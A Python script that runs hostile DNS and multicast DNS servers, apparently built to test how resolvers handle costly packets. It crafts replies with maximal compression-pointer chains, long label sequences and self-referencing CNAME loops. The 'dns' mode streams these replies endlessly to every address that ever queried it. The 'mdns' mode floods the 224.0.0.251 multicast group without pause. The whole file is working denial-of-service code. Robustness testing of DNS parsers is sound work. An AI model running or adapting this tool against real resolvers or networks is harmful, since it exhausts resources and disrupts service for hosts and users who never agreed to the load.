"""Servers that answer with packets made to be expensive, as many as the machine can send.

    hostile.py dns SIZE ADDRESS...   answers each question at these addresses with a stream of replies
    hostile.py mdns SIZE ADDRESS     floods the group of multicast DNS from this address

Two shapes, by SIZE: up to 9000 bytes names as long as names may be, at the end of the longest chain of
pointers that is allowed, in as many records as are allowed; above that a chain of thousands.
"""

import select
import socket
import struct
import sys

GROUP = ("224.0.0.251", 5353)
HEADER_BYTES = 12
RECORDS_MAX = 256
LARGEST_HONEST = 9000
CNAME, TXT = 5, 16
POINTER = 0xC000
POINTER_MAX = 0x3FFF  # an offset has 14 bits


def record(owner, kind, data):
    """A record of class IN; the owner is in wire form."""
    return owner + struct.pack("!HHIH", kind, 1, 60, len(data)) + data


def chain(at, target, hops):
    """Pointers that stand at `at`, the first to `target` and each other to the one before it: their
    bytes, and a pointer to the last."""
    pointers = [target, *range(at, at + 2 * (hops - 1), 2)]
    return (b"".join(struct.pack("!H", POINTER | pointer) for pointer in pointers),
            struct.pack("!H", POINTER | at + 2 * (hops - 1)))


def sections(start, size):
    """The count of records and their bytes, `size` with what stands before `start`. All records are
    aliases of one name, which is given at the end of a chain, and lead to that name again."""
    at = start + 1 + 10  # within the data of a record that the root owns
    if size > LARGEST_HONEST:
        hops = (min(size, POINTER_MAX) - at) // 2
        data, name = chain(at, HEADER_BYTES, hops)
    else:
        # The name that was asked for, then labels of one letter, each of which costs a step.
        long_name = b"\1x" * 112 + struct.pack("!H", POINTER | HEADER_BYTES)
        data, name = chain(at + len(long_name), at, 13)
        data = long_name + data
    first = record(b"\0", TXT, data)
    loop = [record(struct.pack("!H", POINTER | HEADER_BYTES), CNAME, name), record(name, CNAME, name)]
    room = (size - start - len(first)) // len(loop[0])
    if size <= LARGEST_HONEST:
        room = min(room, RECORDS_MAX - 1)
    rest = loop[0] + loop[1] * (room - 1)
    return 1 + room, first + rest


def reply(question, size):
    """A reply to the question."""
    count, records = sections(len(question), size)
    return question[:2] + struct.pack("!5H", 0x8180, 1, count, 0, 0) + question[HEADER_BYTES:] + records


def announcement(size):
    """A multicast answer about waterbug.local."""
    name = b"\x08waterbug\x05local\0"
    question = name + b"\0\x01\0\x01"
    count, records = sections(HEADER_BYTES + len(question), size)
    return struct.pack("!6H", 0, 0x8400, 1, count, 0, 0) + question + records


def serve_dns(size, addresses):
    """Streams replies to everybody who has ever asked."""
    sockets = []
    for address in addresses:
        server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        server.bind((address, 53))
        sockets.append(server)
    print("ready", flush=True)
    askers = {}
    while True:
        for server in select.select(sockets, [], [], 0 if askers else None)[0]:
            question, asker = server.recvfrom(1024)
            askers[server, asker] = reply(question, size)
        for (server, asker), packet in askers.items():
            server.sendto(packet, asker)


def flood_mdns(size, address):
    """Sends to the group without a pause."""
    sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sender.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(address))
    sender.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 255)
    sender.bind((address, 5353))
    packet = announcement(size)
    print("ready", flush=True)
    while True:
        sender.sendto(packet, GROUP)


if __name__ == "__main__":
    kind, size, *rest = sys.argv[1:]
    if kind == "dns":
        serve_dns(int(size), rest)
    else:
        flood_mdns(int(size), *rest)
